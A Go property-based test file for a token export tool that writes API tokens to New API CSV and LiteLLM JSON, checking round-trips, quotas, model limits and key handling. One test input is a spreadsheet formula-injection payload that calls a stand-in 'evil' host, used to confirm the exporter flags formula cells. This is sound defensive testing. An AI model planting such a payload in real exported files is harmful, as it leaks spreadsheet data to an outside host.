package export_test

import (
	"fmt"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"github.com/latchkey-api/latchkey/cmd/tokenctl/export"
	"github.com/latchkey-api/latchkey/shared/credential"
	"github.com/latchkey-api/latchkey/shared/period"
	"github.com/latchkey-api/latchkey/shared/token"
)

// written returns a token as the file of a target.
func written(t rapid.TB, format string, made token.Token, o export.WriteOptions) (string, export.Written) {
	t.Helper()
	o.Now = now
	target := export.Targets()[format]
	row := target.Convert(made, "alice", o)
	var file strings.Builder
	if row.Problem == "" {
		if err := target.Write(&file, []export.Written{row}); err != nil {
			t.Fatal(err)
		}
	}
	return file.String(), row
}

// newToken returns a token with a key, of settings that are valid.
func newToken(t rapid.TB, s token.Settings) (token.Token, credential.Key) {
	t.Helper()
	made, err := token.New(s, 1, now)
	if err != nil {
		t.Fatal(err)
	}
	key := credential.NewKey(1, 2)
	made.ID, made.KeyHash, made.Mask = 2, key.Hash(), key.Mask()
	return made, key
}

// anySettings draws settings that both targets can express.
func anySettings(t *rapid.T) token.Settings {
	s := token.Settings{
		Name:           new(rapid.SampledFrom([]string{"web", "a, \"b\"", "NULL", "=1+1", "名前"}).Draw(t, "name")),
		Disabled:       new(rapid.Bool().Draw(t, "disabled")),
		UnlimitedQuota: new(rapid.Bool().Draw(t, "unlimited")),
		RemainQuota:    new(rapid.Int64Range(0, 1<<45).Draw(t, "quota")),
	}
	if rapid.Bool().Draw(t, "limited") {
		s.ModelLimitsEnabled, s.Models = new(true), rapid.SampledFrom([][]string{{"gpt-4o"}, {"gpt-4o", "a/b"}, {"x y", "null"}}).Draw(t, "models")
	}
	if rapid.Bool().Draw(t, "expires") {
		s.ExpiredTime = new(now + rapid.Int64Range(100, 1<<30).Draw(t, "expiry"))
	}
	return s
}

// TestRoundTrip checks that a token that is written and imported again has the
// settings, the quota and, in LiteLLM, the key that it had.
func TestRoundTrip(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(t *rapid.T) {
		s := anySettings(t)
		format := rapid.SampledFrom([]string{"newapi", "litellm"}).Draw(t, "format")
		if format == "newapi" {
			s.AllowIPs = rapid.SampledFrom([][]string{nil, {"10.0.0.0/8", "::1"}}).Draw(t, "addresses")
			s.Group = new(rapid.SampledFrom([]string{"", "vip"}).Draw(t, "group"))
		} else {
			s.RequestsPerMinute, s.MaxConcurrent = new(rapid.Int64Range(0, 9).Draw(t, "rate")), new(rapid.Int64Range(0, 9).Draw(t, "open"))
		}
		made, _ := newToken(t, s)
		made.GroupGranted = true
		made.UsedQuota = rapid.Int64Range(0, 1<<45).Draw(t, "used")
		if format == "litellm" && rapid.Bool().Draw(t, "foreign") {
			made.ForeignHash, made.ImportedFrom = made.KeyHash, "litellm"
		}
		perDollar := rapid.SampledFrom([]int64{500_000, 1000, 7}).Draw(t, "units per dollar")
		if format == "newapi" {
			perDollar = 500_000
		}
		file, row := written(t, format, made, export.WriteOptions{UnitsPerDollar: perDollar, Ignore: []string{"formulas"}})
		if row.Problem != "" {
			t.Fatalf("got the problem %q", row.Problem)
		}
		isForeign := made.ForeignHash == made.KeyHash
		f, err := export.Read([]byte(file), export.Options{Now: now, UnitsPerDollar: perDollar, KeepKeys: isForeign})
		if err != nil || len(f.Unknown) > 0 || f.Rows[0].Problem != "" || f.Rows[0].Skip != "" {
			t.Fatalf("got %+v, %v, from %s", f, err, file)
		}
		back := f.Rows[0].Foreign()
		again, err := token.New(back.Settings, 1, now)
		if err != nil {
			t.Fatal(err)
		}
		if isForeign && back.Hash != made.KeyHash {
			t.Errorf("the key has another hash: %s", file)
		}
		const rounding = 1 // a dollar that is no whole number of trillionths
		if perDollar != 7 && again.RemainQuota != made.RemainQuota || again.RemainQuota > made.RemainQuota || again.RemainQuota < made.RemainQuota-rounding {
			t.Errorf("got a quota of %d, want %d: %s", again.RemainQuota, made.RemainQuota, file)
		}
		made.RemainQuota, again.RemainQuota = 0, 0
		made.ID, made.KeyHash, made.Mask, made.UsedQuota, made.GroupGranted = 0, [32]byte{}, "", 0, false
		made.ForeignHash, made.ImportedFrom = [32]byte{}, ""
		if got, want := fmt.Sprintf("%+v", again), fmt.Sprintf("%+v", made); got != want {
			t.Errorf("got\n%s, want\n%s, from\n%s", got, want, file)
		}
	})
}

// TestOwnKeys checks that the key of a row that Latchkey has written for LiteLLM is
// neither kept nor compared if it is one of Latchkey, and that the row can be
// imported with a new key.
func TestOwnKeys(t *testing.T) {
	t.Parallel()
	made, _ := newToken(t, token.Settings{Name: new("n"), UnlimitedQuota: new(true)})
	foreign := made
	foreign.ForeignHash, foreign.ImportedFrom = made.KeyHash, "litellm"
	rotated := made
	rotated.ForeignHash, rotated.ImportedFrom = [32]byte{1}, "litellm"
	for name, c := range map[string]struct {
		made   token.Token
		isOurs bool
	}{"own": {made, true}, "foreign": {foreign, false}, "foreign, then rotated": {rotated, true}} {
		file, _ := written(t, "litellm", c.made, export.WriteOptions{})
		for _, ignored := range [][]string{nil, {"metadata"}, {"metadata.latchkey_key"}} {
			kept, err := export.Read([]byte(file), export.Options{Now: now, KeepKeys: true, Compare: true, IgnoreColumns: ignored})
			if err != nil || len(kept.Unknown) > 0 {
				t.Fatalf("%s, without %v: got %v, %v", name, ignored, kept.Unknown, err)
			}
			row := kept.Rows[0]
			for _, got := range []string{row.Problem, row.There.Problem} {
				if isOurs := strings.Contains(got, "its key is one of Latchkey"); isOurs != c.isOurs {
					t.Errorf("%s, without %v: got the problem %q", name, ignored, got)
				}
			}
			if (row.There.Key == export.Key{}) != c.isOurs {
				t.Errorf("%s, without %v: got the key %v", name, ignored, row.There.Key)
			}
		}
		fresh, err := export.Read([]byte(file), export.Options{Now: now})
		if err != nil || len(fresh.Unknown) > 0 || fresh.Rows[0].Problem != "" {
			t.Errorf("%s, with a new key: got %+v, %v", name, fresh, err)
		}
	}
}

// TestWriteNeverMore checks that the other system, by its own rules, allows a
// written token no model, no address and no unit that Latchkey refuses.
func TestWriteNeverMore(t *testing.T) {
	t.Parallel()
	models := []string{"*", "gpt-4*", "gpt-4.1*", "openai/*", "gpt-4o", "gpt-4-gizmo-*", "all-proxy-models", "all-team-models", "no-default-models", "a"}
	rapid.Check(t, func(t *rapid.T) {
		s := token.Settings{Name: new("n"), Disabled: new(rapid.Bool().Draw(t, "disabled")), RemainQuota: new(rapid.Int64Range(0, 5).Draw(t, "quota")), UnlimitedQuota: new(rapid.Bool().Draw(t, "unlimited"))}
		s.Models = rapid.SliceOfNDistinct(rapid.SampledFrom(models), 1, 3, rapid.ID).Draw(t, "models")
		s.ModelLimitsEnabled = new(true)
		s.AllowIPs = rapid.SampledFrom([][]string{nil, {"10.0.0.1"}}).Draw(t, "addresses")
		made, _ := newToken(t, s)
		made.Stopped, made.LeakedTime = rapid.Bool().Draw(t, "stopped"), rapid.SampledFrom([]int64{0, 0, now}).Draw(t, "leaked")
		format := rapid.SampledFrom([]string{"newapi", "litellm"}).Draw(t, "format")
		file, row := written(t, format, made, export.WriteOptions{UnitsPerDollar: 3})
		if row.Problem != "" {
			return
		}
		f, err := export.Read([]byte(file), export.Options{Now: now, UnitsPerDollar: 3, Compare: true})
		if err != nil {
			t.Fatal(err)
		}
		there := f.Rows[0].There
		for _, m := range append(models, "gpt-4xx", "gpt-4.1x", "gpt-4x1x", "openai/x", "other", "gpt-4-gizmo-x") {
			if there.AllowsModel(m) && !made.AllowsModel(m) {
				t.Errorf("it allows %s: %s", m, file)
			}
		}
		if there.Refusal == "" && made.StatusAt(now) != token.Enabled {
			t.Errorf("it is valid there: %s", file)
		}
		if there.AllAddresses && len(made.AllowIPs) > 0 {
			t.Errorf("it may be used from everywhere: %s", file)
		}
	})
}

// TestWriteProblems checks that a setting without an equivalent is a problem, until
// it is ignored.
func TestWriteProblems(t *testing.T) {
	t.Parallel()
	limited := func(change func(*token.Token)) token.Token {
		made, _ := newToken(t, token.Settings{Name: new("n"), RemainQuota: new(int64(10))})
		change(&made)
		return made
	}
	day := token.Window{Period: period.Period{Length: "day", Timezone: "UTC"}, Quota: 5}
	for name, c := range map[string]struct {
		change          func(*token.Token)
		newAPI, liteLLM string // parts of the problems
		ignore          string
	}{
		"nothing":      {func(*token.Token) {}, "", "", ""},
		"addresses":    {func(t *token.Token) { t.AllowIPs = []string{"::1"} }, "", "from some addresses", "allow_ips"},
		"budget":       {func(t *token.Token) { t.UsesWallet = true }, "budget of its owner", "budget of its owner", "budget"},
		"window":       {func(t *token.Token) { t.Windows = []token.Window{day} }, "has windows", "has windows", "windows"},
		"window alone": {func(t *token.Token) { t.Windows, t.UnlimitedQuota = []token.Window{day}, true }, "has windows", "--align-windows", "windows"},
		"models":       {func(t *token.Token) { t.ModelQuotas = []token.ModelQuota{{Model: "a", Quota: 1}} }, "quotas for models", "quotas for models", "model_quotas"},
		"requests":     {func(t *token.Token) { t.RequestsPerMinute = 1 }, "rate of requests", "", "requests_per_minute"},
		"units":        {func(t *token.Token) { t.UnitsPerMinute = 1 }, "rate of units", "rate of units", "units_per_minute"},
		"open":         {func(t *token.Token) { t.MaxConcurrent = 1 }, "requests in progress", "", "max_concurrent"},
	} {
		for format, want := range map[string]string{"newapi": c.newAPI, "litellm": c.liteLLM} {
			o := export.WriteOptions{UnitsPerDollar: 100}
			if _, row := written(t, format, limited(c.change), o); (row.Problem == "") != (want == "") || !strings.Contains(row.Problem, want) {
				t.Errorf("%s, %s: got the problem %q, want %q", name, format, row.Problem, want)
			}
			o.Ignore = []string{c.ignore}
			if _, row := written(t, format, limited(c.change), o); row.Problem != "" {
				t.Errorf("%s, %s, ignored: got the problem %q", name, format, row.Problem)
			}
		}
	}
}

// TestWriteLiteLLM checks rows that are not those of a plain token.
func TestWriteLiteLLM(t *testing.T) {
	t.Parallel()
	made, key := newToken(t, token.Settings{Name: new("n"), UnlimitedQuota: new(true)})
	for name, c := range map[string]struct {
		change func(*token.Token)
		scale  int64
		want   string // a part of the row or of the problem
	}{
		"its hash":              {func(*token.Token) {}, 0, fmt.Sprintf(`"token":"%x","key_name":"sk-...%s"`, key.Hash(), key.Reveal()[len(key.Reveal())-4:])},
		"used without scale":    {func(t *token.Token) { t.UsedQuota = 5 }, 0, `"spend":0,"max_budget":null`},
		"used":                  {func(t *token.Token) { t.UsedQuota = 5 }, 100, `"spend":0.05,"max_budget":null`},
		"limited":               {func(t *token.Token) { t.UnlimitedQuota, t.RemainQuota, t.UsedQuota = false, 10, 5 }, 100, `"spend":0.05,"max_budget":0.15`},
		"rounded":               {func(t *token.Token) { t.UnlimitedQuota, t.RemainQuota, t.UsedQuota = false, 1, 1 }, 3, `"spend":0.333333333334,"max_budget":0.666666666666`},
		"limited without scale": {func(t *token.Token) { t.UnlimitedQuota = false }, 0, "set --units-per-dollar"},
		"a raise": {func(t *token.Token) {
			t.UnlimitedQuota, t.RemainQuota, t.Raise = false, 30, token.Raise{Units: 20, Until: now + 9}
		}, 100, `"spend":0,"max_budget":0.1`},
		"a window": {func(t *token.Token) {
			t.Windows = []token.Window{{Period: period.Period{Length: "5h"}, Quota: 50, Meter: token.Meter{Number: 1, Left: 30, EndsAt: now + 60}}}
		}, 100, `"spend":0.2,"max_budget":0.5,"budget_duration":"5h","budget_reset_at":"`},
		"a month": {func(t *token.Token) {
			t.Windows = []token.Window{{Period: period.Period{Length: "month", Timezone: "UTC", Anchor: period.Anchor{Day: 1}}, Quota: 50}}
		}, 100, `"budget_duration":"1mo"`},
		"a month elsewhere": {func(t *token.Token) {
			t.Windows = []token.Window{{Period: period.Period{Length: "month", Timezone: "Asia/Tokyo"}, Quota: 50}}
		}, 100, "has windows"},
		"tokens per minute":  {func(t *token.Token) { t.UnitsPerMinute = 7 }, 0, `"tpm_limit":7`},
		"another prefix":     {func(t *token.Token) { t.Mask, t.ImportedFrom = "**********wxyz", "unkey" }, 0, "does not begin with sk-"},
		"from LiteLLM":       {func(t *token.Token) { t.Mask, t.ImportedFrom, t.ForeignHash = "**********", "litellm", t.KeyHash }, 0, `"key_name":"sk-..."`},
		"a pattern":          {func(t *token.Token) { t.ModelLimitsEnabled, t.Models = true, []string{"gpt-4*"} }, 0, `"models":["gpt-4*"]`},
		"a pattern of more":  {func(t *token.Token) { t.ModelLimitsEnabled, t.Models = true, []string{"gpt-4.1*"} }, 0, "its model gpt-4.1* is read by LiteLLM as"},
		"a provider":         {func(t *token.Token) { t.ModelLimitsEnabled, t.Models = true, []string{"a", "openai/*"} }, 0, "its model openai/* is read by LiteLLM as"},
		"a name for several": {func(t *token.Token) { t.ModelLimitsEnabled, t.Models = true, []string{"all-team-models"} }, 0, "its model all-team-models is read by LiteLLM as"},
		"leaked":             {func(t *token.Token) { t.LeakedTime = now }, 0, `"blocked":true`},
		"stopped":            {func(t *token.Token) { t.Stopped = true }, 0, `"blocked":true`},
	} {
		changed := made
		c.change(&changed)
		file, row := written(t, "litellm", changed, export.WriteOptions{UnitsPerDollar: c.scale, AlignWindows: true})
		if !strings.Contains(file+row.Problem, c.want) {
			t.Errorf("%s: got %s%s, want %s", name, file, row.Problem, c.want)
		}
	}
}

// TestWriteNewAPI checks that a dollar stays a dollar.
func TestWriteNewAPI(t *testing.T) {
	t.Parallel()
	made, key := newToken(t, token.Settings{Name: new("n"), RemainQuota: new(int64(1000))})
	for scale, want := range map[int64]string{0: ",1000,0,", 500_000: ",1000,0,", 1000: ",500000,0,", 1_000_003: ",499,0,"} {
		file, _ := written(t, "newapi", made, export.WriteOptions{UnitsPerDollar: scale})
		if !strings.Contains(file, want) || !strings.Contains(file, fmt.Sprintf("%x", key.Hash())) || strings.Contains(file, key.Reveal()[3:]) {
			t.Errorf("%d: got %s, want %s", scale, file, want)
		}
	}
}

// TestWriteFormulas checks that no cell of a CSV file begins as a formula of a
// spreadsheet, unless that is accepted, and that JSON is not affected.
func TestWriteFormulas(t *testing.T) {
	t.Parallel()
	for _, text := range []string{`=HYPERLINK("http://evil/?"&A2)`, "+1", "-1", "@cf/meta/llama", "＝1", "＋1", "－1", "＠x", "plain=1", "x-1"} {
		for name, s := range map[string]token.Settings{
			"name":           {Name: &text},
			"list of models": {Name: new("n"), Models: []string{text, "a"}, ModelLimitsEnabled: new(true)},
			"group":          {Name: new("n"), Group: &text},
		} {
			s.UnlimitedQuota = new(true)
			made, _ := newToken(t, s)
			made.GroupGranted = true
			want := text != "plain=1" && text != "x-1"
			file, row := written(t, "newapi", made, export.WriteOptions{})
			if got := strings.HasPrefix(row.Problem, "its "+name+" begins with "); got != want {
				t.Errorf("%s %s: got %s and the problem %q", name, text, file, row.Problem)
			}
			file, row = written(t, "newapi", made, export.WriteOptions{Ignore: []string{"formulas"}})
			if row.Problem != "" || !strings.Contains(file, `"`+strings.ReplaceAll(text, `"`, `""`)) {
				t.Errorf("%s %s, ignored: got %s and the problem %q", name, text, file, row.Problem)
			}
			if _, row = written(t, "litellm", made, export.WriteOptions{}); row.Problem != "" {
				t.Errorf("%s %s: got the problem %q in JSON", name, text, row.Problem)
			}
		}
	}
}

// TestWriteTooMuch checks that a number that does not fit in a column of New API is
// a problem.
func TestWriteTooMuch(t *testing.T) {
	t.Parallel()
	const most = token.MaxInteger
	for _, c := range []struct {
		left, used, scale int64
		want              string // the beginning of the problem
	}{
		{most, 0, 1, "its remaining quota is more in New API"},
		{0, most, 1, "its used quota is more"},
		{most, most, 500, ""},
		{18_446_744_073_709, 0, 1, ""},
		{18_446_744_073_710, 0, 1, "its remaining quota is more"},
		{most, most, 0, ""},
	} {
		made, _ := newToken(t, token.Settings{Name: new("n"), RemainQuota: &c.left})
		made.UsedQuota = c.used
		if file, row := written(t, "newapi", made, export.WriteOptions{UnitsPerDollar: c.scale}); !strings.HasPrefix(row.Problem, c.want) || (row.Problem == "") != (c.want == "") {
			t.Errorf("%+v: got the problem %q, %s", c, row.Problem, file)
		}
	}
}

// TestWriteGroup checks that a group without an effect here has none in New API.
func TestWriteGroup(t *testing.T) {
	t.Parallel()
	for _, granted := range []bool{true, false} {
		made, _ := newToken(t, token.Settings{Name: new("n"), UnlimitedQuota: new(true), Group: new("vip")})
		made.GroupGranted = granted
		file, row := written(t, "newapi", made, export.WriteOptions{})
		if strings.Contains(file, "vip") != granted || (len(row.Warnings) == 0) != granted {
			t.Errorf("granted %t: got %s, %q", granted, file, row.Warnings)
		}
	}
}
